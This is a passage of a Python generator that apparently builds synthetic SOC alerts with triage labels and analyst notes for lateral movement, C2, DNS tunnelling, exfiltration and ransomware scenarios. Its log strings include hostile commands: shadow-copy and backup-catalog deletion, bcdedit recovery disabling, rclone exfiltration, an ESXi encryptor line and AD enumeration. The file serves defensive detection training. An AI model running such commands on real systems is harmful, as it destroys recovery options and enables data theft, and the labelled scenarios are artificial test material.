        "svc-ansible-win from the AWX nodes running the Windows baseline playbook on %s; the encoded block is Ansible's standard module wrapper." % tgt,
        "Ansible over WinRM on %s (wsmprovhost parent, svc-ansible-win). Expected configuration management." % tgt,
    ])
    return out("Ansible WinRM session on %s" % tgt, "informational", ["T1021.006"], notes, [])


@scenario("rb-winrm-lateral", "false_positive")
def winrm_scom(c):
    tgt = c.winsrv()
    c.alert("windows-security", "WinRM network logon from unexpected host", "low",
            winsec(4624, tgt, LogonType=3, TargetUserName="svc-scom-action", IpAddress=int_ip("10.10.2"), WorkstationName="SRV-SCOM02"),
            ents={"hosts": [tgt, "SRV-SCOM02"], "service_accounts": ["svc-scom-action"]}, asset=("production", "low", "sre"))
    notes = pick([
        "svc-scom-action logging on to %s from SRV-SCOM02, the management server added last month and not yet in the WinRM allowlist." % tgt,
        "SCOM polling %s over WinRM with its action account. Allowlist updated with SRV-SCOM02." % tgt,
    ])
    return out("SCOM action account on %s from SRV-SCOM02" % tgt, "informational", ["T1021.006"], notes, [])


@scenario("rb-ssh-lateral-movement", "true_positive")
def ssh_hop_chain(c):
    hosts = [c.lnx() for _ in range(3)]
    user = pick(["deploy", "ubuntu", "svc-etl"])
    c.alert("auditd", "SSH from server to server using agent-forwarded key", "high",
            sshd_log(hosts[1], "Accepted publickey for %s from %s port %d ssh2: RSA SHA256:%s" % (user, int_ip("10.60"), rng.randint(30000, 60000), alnum(43))),
            ents={"hosts": hosts[:2], "users": [user]}, asset=("production", "high", c.team()))
    c.alert("auditd", "Internal SSH scan / key spraying", "high",
            auditd(hosts[1], "EXECVE", "/usr/bin/ssh", "ssh", ["ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", "-i", "/tmp/.k/id_rsa", "%s@%s" % (user, hosts[2]), "id"],
                   auid=str(rng.randint(1000, 1100)), uid=str(rng.randint(1000, 1100)), key="ssh_client"),
            off=3, ents={"hosts": hosts[1:]}, asset=("production", "high", c.team()))
    notes = pick([
        "Keys harvested into /tmp/.k on %s and tried against other hosts with BatchMode (automated). Chain %s -> %s -> %s. Isolated all three, rotated the %s key across the fleet, removed agent forwarding from bastion config." % (hosts[1], hosts[0], hosts[1], hosts[2], user),
        "SSH key spraying from %s using stolen keys. Contained and keys rotated." % hosts[1],
    ])
    return out("SSH key spraying from %s" % hosts[1], "high", ["T1021.004", "T1552.004"], notes,
               ["isolate_host", "rotate_secret", "collect_forensics"])


@scenario("rb-ssh-lateral-movement", "benign")
def ssh_ansible_fanout(c):
    host = c.lnx()
    src = int_ip("10.10.5")
    n = rng.randint(60, 400)
    c.alert("zeek", "One host SSHing to many internal hosts", "medium",
            dict(zeek_conn(src, int_ip("10.60"), 22, 4300, 9100, 12.4, service="ssh"), distinct_dests_10m=n),
            ents={"hosts": [host], "ips": [src]}, asset=("production", "low", "platform-eng"))
    notes = pick([
        "%s is an AWX execution node running the weekly patch playbook against %d prod hosts (including %s); the job schedule and start time match." % (src, n, host),
        "SSH fan-out from the automation subnet (%s) to %d hosts is Ansible patching. Benign." % (src, n),
    ])
    return out("Ansible patch fan-out from %s (%d hosts)" % (src, n), "informational", ["T1021.004"], notes, [])


@scenario("rb-ssh-lateral-movement", "false_positive")
def ssh_monitoring(c):
    host = c.lnx()
    poller = int_ip("10.10.3")
    c.alert("auditd", "SSH from server to server", "low",
            sshd_log(host, "Accepted publickey for nagios from %s port %d ssh2" % (poller, rng.randint(30000, 60000))),
            ents={"hosts": [host], "service_accounts": ["nagios"], "ips": [poller]}, asset=("production", "low", "sre"))
    notes = pick([
        "check_by_ssh from the Nagios poller %s into %s; the nagios key is restricted with command= to the check wrapper." % (poller, host),
        "Monitoring SSH to %s by nagios from %s, every 5 minutes for years. FP." % (host, poller),
    ])
    return out("Nagios check_by_ssh to %s" % host, "informational", ["T1021.004"], notes, [])


# ===================================== command and control / exfil ===================

@scenario("rb-c2-beaconing", "true_positive")
def beacon_https(c):
    host = c.ws()
    u = c.person()
    dom = evil_domain()
    ip = ext_ip()
    iv = pick([30, 60, 45, 300])
    c.alert("zeek", "Periodic TLS connections with low jitter to rare domain", "high",
            dict(zeek_ssl(int_ip("10.20"), ip, dom, ja3=pick(["72a589da586844d7f0818ce684948eea", md5()])),
                 beacon={"interval_s": iv, "jitter_pct": round(rng.uniform(2, 12), 1), "count_24h": int(86400 / iv * rng.uniform(0.4, 0.9)),
                         "domain_first_seen_days": rng.randint(1, 9), "prevalence_hosts": 1}),
            ents={"hosts": [host], "ips": [ip], "urls": ["https://%s/" % dom]}, asset=("corporate", "medium", c.team()))
    c.alert("proxy", "Rare domain with small repetitive POST requests", "medium",
            proxy(u.email, int_ip("10.20"), "https://%s/%s" % (dom, pick(["jquery-3.3.1.min.js", "api/v2/status", "submit.php", "pixel.gif"])), method="POST",
                  category="Uncategorized", bytes_out=rng.randint(200, 900), bytes_in=rng.randint(100, 400)),
            off=5, ents={"users": [u.email], "urls": ["https://%s/" % dom]}, asset=("corporate", "medium", c.team()))
    sl_exe = "C:\\Users\\%s\\AppData\\Local\\%s\\%s.exe" % (u.sam, pick(["ZoomHelper", "TeamsCache", "OneDriveSync"]), pick(["ZoomUpdate", "Update", "FileSyncHelper"]))
    c.alert("crowdstrike", "Signed binary loading unsigned DLL from user-writable path", "high",
            cs(host, u.sam, "DLLSideLoading", "Defense Evasion", "Hijack Execution Flow", '"%s"' % sl_exe, sl_exe, "explorer.exe",
               extra={"LoadedModule": sl_exe.rsplit("\\", 1)[0] + "\\" + pick(["version.dll", "dbghelp.dll", "winhttp.dll"]),
                      "LoadedModuleSigned": False}),
            off=-90, ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s contacted %s every ~%ds with <12%% jitter since %s; only one host in the org talks to this 5-day-old domain, and the URI mimics a jQuery file (malleable profile). EDR found a beacon DLL in a sideloaded signed binary. Isolated, domain blocked, memory captured." % (host, dom, iv, c.day()),
        "Low-jitter HTTPS beacon from %s to %s. Confirmed implant; %s's device contained and credentials reset." % (host, dom, u.name),
    ])
    return out("HTTPS beaconing from %s to %s" % (host, dom), "high", ["T1071.001", "T1573.002", "T1574.001"], notes,
               ["isolate_host", "block_indicator", "collect_forensics", "reset_password"])


@scenario("rb-c2-beaconing", "true_positive")
def beacon_server(c):
    host = c.lnx()
    dom = evil_domain()
    c.alert("suricata", "Known C2 framework TLS certificate", "high",
            suricata(int_ip("10.60"), rng.randint(40000, 60000), ext_ip(), 443, "ET MALWARE Possible Sliver/Mythic default certificate observed", "A Network Trojan was detected", sev=1, app="tls",
                     extra={"tls": {"sni": dom, "subject": "CN=%s" % alnum(8), "issuerdn": "CN=%s" % alnum(8)}}),
            ents={"hosts": [host], "urls": ["https://%s/" % dom]}, asset=("production", "high", c.team()))
    notes = pick([
        "Default C2 framework certificate (random CN, self-issued) from %s to %s. Implant found in /var/tmp, dropped after the Confluence exploit. Isolated and rebuilt." % (host, dom),
        "Server %s beaconing with a known C2 cert pattern. Confirmed implant; contained." % host,
    ])
    return out("C2 certificate pattern from %s" % host, "high", ["T1071.001", "T1573.002"], notes,
               ["isolate_host", "block_indicator", "collect_forensics"])


@scenario("rb-c2-beaconing", "benign")
def beacon_update_agent(c):
    host = c.ws()
    svc = pick(["telemetry.vendor-agent.example.com", "checkin.mdm.example.net", "api.crashreports.example.org"])
    tool = pick(["the CAD licence manager", "the lab-instrument driver suite", "the ERP thick client"])
    c.alert("zeek", "Periodic TLS connections with low jitter to rare domain", "medium",
            dict(zeek_ssl(int_ip("10.20"), ext_ip(), svc), beacon={"interval_s": 600, "jitter_pct": 0.5, "prevalence_hosts": 1}),
            ents={"hosts": [host], "urls": ["https://%s/" % svc]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s is the check-in endpoint of %s, which is installed on %s and nowhere else, hence prevalence 1. Valid cert chain, vendor-owned domain, fixed 10-minute timer documented by the vendor." % (svc, tool, host),
        "Only %s talks to %s, every 600s. Traced to %s (process list from EDR). Licensed software, expected." % (host, svc, tool),
    ])
    return out("Licensed-tool check-in from %s to %s" % (host, svc.split(".")[1]), "informational", ["T1071.001"], notes, [])


@scenario("rb-c2-beaconing", "false_positive")
def beacon_ntp_like(c):
    host = c.winsrv()
    sip, dip = int_ip("10.10"), int_ip("10.0.1")
    c.alert("zeek", "Periodic connections with low jitter", "low",
            dict(zeek_conn(sip, dip, 443, 600, 4100, 0.2, service="ssl"), beacon={"interval_s": 60, "jitter_pct": 0.1}),
            ents={"hosts": [host], "ips": [sip, dip]}, asset=("production", "low", "sre"))
    notes = pick([
        "%s hits %s every 60s: that's the internal load balancer VIP and the traffic is the app's health probe. The beacon model should never score RFC1918 destinations; ticket raised to fix that." % (host, dip),
        "Destination %s is our own F5 health endpoint, source %s is %s. Perfect periodicity is what a health check looks like. Closing as FP." % (dip, sip, host),
    ])
    return out("Health probe from %s scored as beacon" % host, "informational", ["T1071.001"], notes, ["create_ticket"])


@scenario("rb-dns-tunnelling", "true_positive")
def dns_tunnel_iodine(c):
    host = c.ws()
    base = pick(["t.%s" % evil_domain(), "ns1.%s" % evil_domain()])
    q = "%s.%s" % (alnum(52), base)
    c.alert("zeek", "High-entropy subdomains with high query volume to one domain", "high",
            dict(zeek_dns(int_ip("10.20"), q, qtype=pick(["TXT", "NULL", "CNAME"])),
                 stats={"unique_subdomains_1h": rng.randint(4000, 40000), "avg_label_len": round(rng.uniform(40, 60), 1), "entropy": round(rng.uniform(4.2, 5.1), 2)}),
            ents={"hosts": [host], "urls": [base]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Thousands of unique 50+ char TXT lookups to %s from %s, entropy ~4.8: data encoded in DNS. Process was a renamed dnscat2 client dropped by the loader. Blocked the domain at the resolver, isolated host, estimated ~%d MB out." % (base, host, rng.randint(2, 60)),
        "DNS tunnel from %s via %s. Contained; RPZ block in place." % (host, base),
    ])
    return out("DNS tunnelling from %s via %s" % (host, base), "high", ["T1071.004", "T1048.003", "T1132.001"], notes,
               ["isolate_host", "block_indicator", "collect_forensics"])


@scenario("rb-dns-tunnelling", "benign")
def dns_av_lookups(c):
    host = c.ws()
    dom = pick(["avqs.mcafee.example.com", "sophosxl.example.net", "e5.sk.example.org"])
    c.alert("zeek", "High-entropy subdomains with high query volume to one domain", "medium",
            dict(zeek_dns(int_ip("10.20"), "%s.%s" % (hexs(40), dom), qtype="A"),
                 stats={"unique_subdomains_1h": rng.randint(300, 2000), "entropy": 3.9}),
            ents={"hosts": [host], "urls": [dom]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "%s is the AV vendor's file-reputation service: hashes are sent as hex labels and answered with 127.x codes. %s was doing a full scan after a definition update. Allowlisted the domain." % (dom, host),
        "Hex-label lookups to %s from %s are AV cloud reputation checks, not encoded data. Benign." % (dom, host),
    ])
    return out("AV reputation lookups from %s to %s" % (host, dom.split(".")[1]), "informational", ["T1071.004"], notes, [])


@scenario("rb-dns-tunnelling", "false_positive")
def dns_cdn(c):
    host = c.ws()
    q = "%s.cloudfront.example.net" % alnum(14)
    c.alert("zeek", "Long DNS labels", "low",
            zeek_dns(int_ip("10.20"), q, qtype="A"), ents={"hosts": [host], "urls": [q]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s looked up %s a handful of times: CDN distribution hostnames are random by design, answers are CDN edge addresses and volume is tiny. Nothing encoded. FP." % (host, q),
        "Single-label randomness (%s) on a CDN domain from %s; no TXT/NULL queries, <10 lookups an hour. Not tunnelling." % (q.split(".")[0], host),
    ])
    return out("CDN hostname lookups from %s flagged as tunnel" % host, "informational", ["T1071.004"], notes, [])


@scenario("rb-exfil-cloud-storage", "true_positive")
def exfil_rclone_mega(c):
    host = c.winsrv(pick(["FS", "FILE"]))
    u = c.person()
    gb = round(rng.uniform(40, 600), 1)
    c.alert("sysmon", "rclone copy to cloud storage remote", "critical",
            sysmon1(host, u.win, "C:\\ProgramData\\%s.exe" % pick(["rclone", "svchst", "winupd"]),
                    "%s copy \\\\%s\\Finance remote:%s --transfers 16 --max-age 2y --include \"*.{pdf,xlsx,docx}\" -q --ignore-existing --auto-confirm" % (pick(["rclone.exe", "svchst.exe"]), host, alnum(6)),
                    CMD), ents={"hosts": [host], "users": [u.win]}, asset=("production", "critical", "finance-systems"))
    c.alert("proxy", "Large upload to file-sharing service", "high",
            proxy(u.email, int_ip("10.10"), "https://g.api.mega.example/cs?id=%d" % rng.randint(10 ** 6, 10 ** 7), method="POST", category="Online Storage",
                  bytes_out=int(gb * 1024 ** 3), bytes_in=rng.randint(10 ** 5, 10 ** 6)),
            off=30, ents={"users": [u.email], "hosts": [host]}, asset=("production", "critical", "finance-systems"))
    c.alert("sysmon", "rclone configuration file written", "medium",
            sysmon11(host, u.win, "C:\\ProgramData\\rclone.exe", "C:\\Users\\%s\\AppData\\Roaming\\rclone\\rclone.conf" % u.sam),
            off=-3, ents={"hosts": [host], "users": [u.win]}, asset=("production", "critical", "finance-systems"))
    notes = pick([
        "rclone (renamed) copying Finance share documents to a cloud storage remote: %.1f GB uploaded from %s before we cut it. Classic pre-ransomware double-extortion step. Killed the process, isolated, legal engaged." % (gb, host),
        "Data theft via rclone from %s (%.1f GB). Account %s was compromised. Contained; breach assessment opened." % (host, gb, u.sam),
    ])
    return out("rclone exfiltration of Finance share from %s (%.0f GB)" % (host, gb), "critical", ["T1567.002", "T1039", "T1119"], notes,
               ["kill_process", "isolate_host", "block_indicator", "disable_account", "collect_forensics"])


@scenario("rb-exfil-cloud-storage", "true_positive")
def exfil_personal_drive(c):
    u = c.person()
    host = c.ws()
    mb = rng.randint(800, 9000)
    c.alert("proxy", "Upload to personal cloud storage account", "high",
            proxy(u.email, int_ip("10.20"), "https://www.%s/upload" % pick(["personal-drive.example", "dropbox.example.net", "box-personal.example"]),
                  method="POST", category="Online Storage", bytes_out=mb * 1024 * 1024, extra={"cloud_app_instance": "personal"}),
            ents={"users": [u.email], "hosts": [host]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s uploaded %d MB of CRM exports to a personal storage account from %s. The user admitted copying customer lists 'to work from home'; HR and legal engaged. Blocked personal instances of the app via CASB." % (u.name, mb, host),
        "Personal cloud upload (%d MB) of customer data by %s. Policy violation with data exposure. Escalated to HR/legal; DLP policy tightened." % (mb, u.sam),
    ])
    return out("Upload of %d MB to personal cloud storage by %s" % (mb, u.sam), "medium", ["T1567.002"], notes,
               ["notify_owner", "block_indicator", "create_ticket"])


@scenario("rb-exfil-cloud-storage", "benign")
def exfil_sanctioned_share(c):
    u = c.person()
    gb = rng.randint(2, 30)
    c.alert("proxy", "Large upload to file-sharing service", "medium",
            proxy(u.email, int_ip("10.20"), "https://examplecorp.box.example.com/upload", method="POST", category="Online Storage",
                  bytes_out=gb * 1024 ** 3, extra={"cloud_app_instance": "corporate"}),
            ents={"users": [u.email]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s uploaded %d GB to the corporate Box tenant (instance=corporate) to share raw footage with the agency through the sanctioned external-collaboration folder." % (u.email, gb),
        "Corporate tenant, not a personal account: %s's %d GB upload went to examplecorp.box.example.com. Expected for the campaign production work." % (u.name, gb),
    ])
    return out("%d GB upload to corporate Box by %s" % (gb, u.sam), "informational", ["T1567.002"], notes, [])


@scenario("rb-exfil-cloud-storage", "false_positive")
def exfil_backup_client(c):
    host = c.ws()
    gb = rng.randint(5, 40)
    c.alert("proxy", "Large upload to file-sharing service", "medium",
            proxy("SYSTEM", int_ip("10.20"), "https://backup-ingest.druva.example.com/v1/blocks", method="PUT", category="Online Storage",
                  bytes_out=gb * 1024 ** 3, extra={"device": host}), ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "%d GB from %s as SYSTEM to backup-ingest.druva.example.com: endpoint backup's first full seed after the laptop was reimaged. Our contracted vendor, categorised as online storage by the proxy." % (gb, host),
        "Initial backup seed for %s to the endpoint-backup tenant. Excluded the ingest host from the exfil rule." % host,
    ])
    return out("Endpoint backup seed from %s flagged as exfil" % host, "informational", ["T1567.002"], notes, [])


@scenario("rb-large-outbound-transfer", "true_positive")
def outbound_sftp_db(c):
    host = c.lnx("db", "prod")
    ip = ext_ip()
    gb = round(rng.uniform(20, 300), 1)
    c.alert("zeek", "Large outbound transfer from database subnet over SSH", "critical",
            zeek_conn(int_ip("10.60"), ip, pick([22, 2222, 8022]), int(gb * 1024 ** 3), rng.randint(10 ** 6, 10 ** 7), round(rng.uniform(1800, 14000), 1), service="ssh"),
            ents={"hosts": [host], "ips": [ip]}, asset=("production", "critical", "data-eng"))
    notes = pick([
        "%.1f GB over SSH from %s to %s: the DB host should never talk to the internet directly; an egress rule was opened for a vendor and never closed. pg_dump in the process list at that time. Rule closed, host isolated, breach process started." % (gb, host, ip),
        "Database dump exfil via scp from %s to %s. Confirmed. Contained." % (host, ip),
    ])
    return out("%.0f GB SSH exfil from %s" % (gb, host), "critical", ["T1048", "T1030", "T1005"], notes,
               ["isolate_host", "block_indicator", "collect_forensics", "notify_owner"])


@scenario("rb-large-outbound-transfer", "true_positive")
def outbound_ftp_chunks(c):
    host = c.winsrv()
    ip = ext_ip()
    c.alert("suricata", "FTP STOR of many fixed-size archive parts", "high",
            suricata(int_ip("10.10"), rng.randint(40000, 60000), ip, 21, "ET POLICY Outbound FTP STOR of archive", "Potential Corporate Privacy Violation", app="ftp",
                     extra={"ftp": {"command": "STOR", "command_data": "arc.7z.%03d" % rng.randint(1, 90)}, "parts_seen": rng.randint(30, 120), "part_size_mb": 100}),
            ents={"hosts": [host], "ips": [ip]}, asset=("production", "high", c.team()))
    notes = pick([
        "7z split into 100 MB parts and pushed over plain FTP from %s to %s. Pre-encryption exfil. Blocked egress FTP globally, isolated the host." % (host, ip),
        "Chunked archive upload via FTP to %s. Hostile; contained." % ip,
    ])
    return out("Chunked FTP exfil from %s" % host, "high", ["T1048.003", "T1030", "T1560.001"], notes,
               ["isolate_host", "block_indicator", "change_org_policy"])


@scenario("rb-large-outbound-transfer", "benign")
def outbound_replication(c):
    host = c.lnx("db", "prod")
    dip = ext_ip()
    gb = rng.randint(50, 200)
    c.alert("zeek", "Large outbound transfer over unusual port", "medium",
            zeek_conn(int_ip("10.60"), dip, 5432, gb * 1024 ** 3, 10 ** 7, 7200.0, service="postgresql"),
            ents={"hosts": [host], "ips": [dip]}, asset=("production", "medium", "data-eng"))
    notes = pick([
        "%d GB from %s to %s:5432 is the initial sync of the logical replica at the DR site (%s); TLS, destination on the DR allowlist, data-eng on the bridge while it ran." % (gb, host, dip, chg()),
        "Planned DR replication seed from %s to the DR endpoint %s. Expected once; steady-state traffic is a few MB/min." % (host, dip),
    ])
    return out("DR replica seed from %s (%d GB)" % (host, gb), "informational", ["T1048"], notes, [])


@scenario("rb-large-outbound-transfer", "false_positive")
def outbound_video(c):
    u = c.person()
    port = pick([3478, 8801, 19302])
    dip = ext_ip()
    c.alert("zeek", "Large outbound UDP flow", "low",
            zeek_conn(int_ip("10.20"), dip, port, rng.randint(2, 6) * 1024 ** 3, rng.randint(2, 6) * 1024 ** 3, 5400.0, proto="udp", state="S0"),
            ents={"users": [u.email], "ips": [dip]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "UDP/%d to %s for 90 minutes with roughly equal bytes in both directions: %s presenting the all-hands over the conferencing client. Media relay port, symmetric flow, calendar matches. FP; media ports excluded." % (port, dip, u.email),
        "%s was on a 90-minute video call; %s is the conferencing provider's media relay. Exfil rarely looks symmetric. Closed." % (u.name, dip),
    ])
    return out("Video call media from %s flagged as large outbound" % u.sam, "informational", ["T1048"], notes, [])


# ===================================== ransomware precursors / impact ================

@scenario("rb-shadow-copy-deletion", "true_positive")
def vss_delete(c):
    host = c.winsrv()
    u = c.person()
    cmd = pick(["vssadmin.exe delete shadows /all /quiet", "wmic shadowcopy delete /nointeractive",
                "powershell -c \"Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}\""])
    c.alert("crowdstrike", "Shadow copies deleted", "critical",
            cs(host, u.sam, "ShadowCopyDeletion", "Impact", "Inhibit System Recovery", cmd, "C:\\Windows\\System32\\vssadmin.exe", "cmd.exe", sev="Critical",
               disposition="Process blocked"), ents={"hosts": [host], "users": [u.win]}, asset=("production", "critical", c.team()))
    c.alert("sysmon", "Boot recovery disabled with bcdedit", "critical",
            sysmon1(host, u.win, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled No", CMD),
            off=0.1, ents={"hosts": [host], "users": [u.win]}, asset=("production", "critical", c.team()))
    notes = pick([
        "'%s' and bcdedit recoveryenabled No on %s, run from a batch file dropped via PsExec; ransomware deployment was starting. EDR blocked the VSS deletion. Network-isolated every server the batch reached (3), disabled %s, activated the ransomware playbook." % (cmd, host, u.sam),
        "Recovery inhibition on %s moments before encryption. Contained at this stage; no encryption observed. IR engaged." % host,
    ])
    return out("Shadow copy deletion on %s" % host, "critical", ["T1490", "T1047"], notes,
               ["isolate_host", "disable_account", "kill_process", "collect_forensics", "create_ticket"])


@scenario("rb-shadow-copy-deletion", "true_positive")
def backup_catalog_delete(c):
    srv = pick(["SRV-VEEAM01", "SRV-BACKUP02"])
    u = c.person()
    c.alert("sysmon", "Backup catalog deleted with wbadmin", "critical",
            sysmon1(srv, u.win, "C:\\Windows\\System32\\wbadmin.exe", "wbadmin delete catalog -quiet", CMD),
            ents={"hosts": [srv], "users": [u.win]}, asset=("production", "critical", "sre"))
    c.alert("windows-security", "Backup repository jobs disabled", "high",
            {"EventID": 23050, "Channel": "Veeam Backup", "Computer": srv + "." + AD_DOMAIN, "Description": "Job 'Daily-Prod' disabled by %s" % u.win,
             "TimeCreated": "__T__"}, off=2, ents={"hosts": [srv], "users": [u.win]}, asset=("production", "critical", "sre"))
    notes = pick([
        "Catalog deletion and job disabling on the backup server by %s at 03:10; backup admins were not working. Attacker aimed at recovery before encryption. Immutable copies untouched. Disabled the account, isolated %s, rotated Veeam creds." % (u.sam, srv),
        "Backup sabotage on %s. Contained; immutable repository confirmed intact." % srv,
    ])
    return out("Backup catalog deleted on %s" % srv, "critical", ["T1490", "T1489"], notes,
               ["disable_account", "isolate_host", "rotate_secret", "collect_forensics"])


@scenario("rb-shadow-copy-deletion", "benign")
def vss_resize(c):
    host = c.winsrv("FS")
    u = c.person()
    i = inc()
    c.alert("sysmon", "vssadmin shadow storage modified", "medium",
            sysmon1(host, u.win + "-adm", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin resize shadowstorage /for=D: /on=D: /maxsize=15%", CMD),
            ents={"hosts": [host], "users": [u.win + "-adm"]}, asset=("production", "medium", "corp-it"))
    notes = pick([
        "%s-adm enlarged shadow storage on %s D: to 15%% after %s ('previous versions missing'). Resize only; shadow count went up afterwards, not down." % (u.sam, host, i),
        "Storage resize by sysadmin %s on %s under %s. Expected maintenance." % (u.name, host, i),
    ])
    return out("VSS storage resize on %s by %s" % (host, u.sam), "informational", ["T1490"], notes, [])


@scenario("rb-shadow-copy-deletion", "false_positive")
def vss_backup_agent(c):
    host = c.winsrv()
    sid = guid()
    c.alert("sysmon", "Shadow copies deleted", "high",
            sysmon1(host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /shadow={%s} /quiet" % sid,
                    "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe", integrity="System"),
            ents={"hosts": [host]}, asset=("production", "medium", "sre"))
    notes = pick([
        "Veeam agent on %s deleting the one snapshot ({%s...}) it created for tonight's job; /shadow= with a specific id, not /all, and the parent is Veeam.EndPoint.Service." % (host, sid[:8]),
        "Backup agent cleanup of its own VSS snapshot on %s. Other shadow copies untouched. FP." % host,
    ])
    return out("Veeam snapshot cleanup on %s" % host, "informational", ["T1490"], notes, [])


@scenario("rb-mass-file-encryption", "true_positive")
def mass_encrypt_fileserver(c):
    host = c.ws()
    fs = c.winsrv("FS")
    u = c.person()
    ext = "." + alnum(5)
    n = rng.randint(3000, 60000)
    c.alert("crowdstrike", "Mass file modification with extension change", "critical",
            cs(host, u.sam, "RansomwareFileEncryption", "Impact", "Data Encrypted for Impact", "C:\\Users\\Public\\%s.exe -path \\\\%s\\Shares -threads 8" % (alnum(6), fs),
               "C:\\Users\\Public\\%s.exe" % alnum(6), "explorer.exe", sev="Critical", disposition="Process killed, quarantined"),
            ents={"hosts": [host, fs], "users": [u.win]}, asset=("corporate", "critical", c.team()))
    c.alert("windows-security", "Burst of file renames on file share", "critical",
            winsec(5145, fs, SubjectUserName=u.sam, ShareName="\\\\*\\Shares", RelativeTargetName="Projects\\2024\\plan.xlsx" + ext,
                   AccessMask="0x10080", renames_per_min=rng.randint(800, 4000), new_extension=ext, ransom_note="README_RESTORE.txt"),
            off=0.5, ents={"hosts": [fs], "users": [u.win]}, asset=("production", "critical", "corp-it"))
    c.alert("sysmon", "Shadow copies deleted before file activity burst", "critical",
            sysmon1(host, u.win, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD, integrity="High"),
            off=-2, ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "critical", c.team()))
    notes = pick([
        "Encryption running from %s over SMB against \\\\%s\\Shares, renaming files to %s and dropping README_RESTORE.txt; ~%d files hit before the process was killed. Isolated %s, disconnected the share, restoring from last night's immutable snapshot." % (host, fs, ext, n, host),
        "Active ransomware from %s (user %s) against %s. Contained in ~4 minutes; %d files to restore. Major incident declared." % (host, u.sam, fs, n),
    ])
    return out("Ransomware encryption of %s shares from %s" % (fs, host), "critical", ["T1486", "T1021.002"], notes,
               ["isolate_host", "kill_process", "disable_account", "collect_forensics", "create_ticket"])


@scenario("rb-mass-file-encryption", "true_positive")
def mass_encrypt_esxi(c):
    host = "esxi-%02d.%s" % (rng.randint(1, 20), AD_DOMAIN)
    c.alert("esxi-syslog", "ESXi VMs powered off and vmdk files renamed", "critical",
            {"hostname": host, "program": "shell", "message": "esxcli vm process kill --type=force --world-id=%d; ./encrypt /vmfs/volumes/datastore1" % rng.randint(100000, 999999),
             "timestamp": "__T__", "user": "root", "vmdk_renamed": rng.randint(10, 80)}, ents={"hosts": [host]}, asset=("production", "critical", "sre"))
    notes = pick([
        "Root shell on %s (SSH was enabled for a vendor and left on) killed VMs and ran an ESXi encryptor against datastore1. Host disconnected, SSH disabled fleet-wide, restoring VMs from replica cluster." % host,
        "ESXi ransomware on %s. Contained; DR failover started." % host,
    ])
    return out("ESXi encryptor on %s" % host, "critical", ["T1486", "T1529"], notes,
               ["isolate_host", "collect_forensics", "change_org_policy", "create_ticket"])


@scenario("rb-mass-file-encryption", "benign")
def mass_rename_migration(c):
    fs = c.winsrv("FS")
    u = c.person()
    c.alert("windows-security", "Burst of file renames on file share", "high",
            winsec(5145, fs, SubjectUserName="svc-sharegate", RelativeTargetName="Legal\\Archive\\2019\\case.docx", renames_per_min=rng.randint(600, 2000)),
            ents={"hosts": [fs], "service_accounts": ["svc-sharegate"]}, asset=("production", "medium", "corp-it"))
    notes = pick([
        "svc-sharegate migrating the Legal archive to SharePoint; renames are its post-migration '.migrated' marking. %s confirmed the schedule (%s). Benign." % (u.name, chg()),
        "Migration tool bulk rename on %s. Expected." % fs,
    ])
    return out("Migration tool bulk rename on %s" % fs, "informational", ["T1486"], notes, [])


@scenario("rb-mass-file-encryption", "false_positive")
def mass_encrypt_compiler(c):
    u = c.person()
    host = c.ws()
    c.alert("crowdstrike", "High-entropy writes to many files", "high",
            cs(host, u.sam, "MassFileWrite", "Impact", "Data Encrypted for Impact", "msbuild.exe Solution.sln /m /p:Configuration=Release",
               "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe", "devenv.exe", sev="Medium"),
            ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "low", "devex"))
    notes = pick([
        "MSBuild release build by %s on %s writing compressed/obfuscated assemblies; no renames to a new extension, no ransom note, files are new outputs not overwrites. Entropy heuristic FP." % (u.sam, host),
        "Release build under devenv on %s. High-entropy output is expected from the packager step. Closed." % host,
    ])
    return out("MSBuild output flagged as encryption on %s" % host, "informational", ["T1486"], notes, [])


@scenario("rb-ransomware-discovery-tooling", "true_positive")
def disco_adfind(c):
    host = c.winsrv()
    u = c.person()
    c.alert("sysmon", "AdFind enumeration of trusts, computers and users", "high",
            sysmon1(host, u.win, "C:\\PerfLogs\\af.exe", "af.exe -f (objectcategory=computer) -csv name operatingSystem", CMD, cwd="C:\\PerfLogs\\"),
            ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    c.alert("sysmon", "Domain trust discovery", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts", CMD), off=0.5,
            ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    notes = pick([
        "AdFind renamed af.exe in C:\\PerfLogs dumping computers/users to CSV, plus nltest trust enumeration on %s. This batch (adf.bat) is a known ransomware-affiliate precursor. Isolated %s, disabled %s, hunted for the batch elsewhere (none)." % (host, host, u.sam),
        "Pre-ransomware discovery on %s via AdFind + nltest. Contained before lateral spread." % host,
    ])
    return out("AdFind and trust discovery on %s" % host, "high", ["T1087.002", "T1018", "T1482"], notes,
               ["isolate_host", "disable_account", "collect_forensics"])


@scenario("rb-ransomware-discovery-tooling", "true_positive")
def disco_sharphound(c):
    host = c.ws()
    u = c.person()
    c.alert("crowdstrike", "SharpHound collection", "high",
            cs(host, u.sam, "BloodHoundCollection", "Discovery", "Account Discovery", "SharpHound.exe -c All --zipfilename %s.zip" % alnum(6),
               "C:\\Users\\%s\\AppData\\Local\\Temp\\SharpHound.exe" % u.sam, "powershell.exe"),
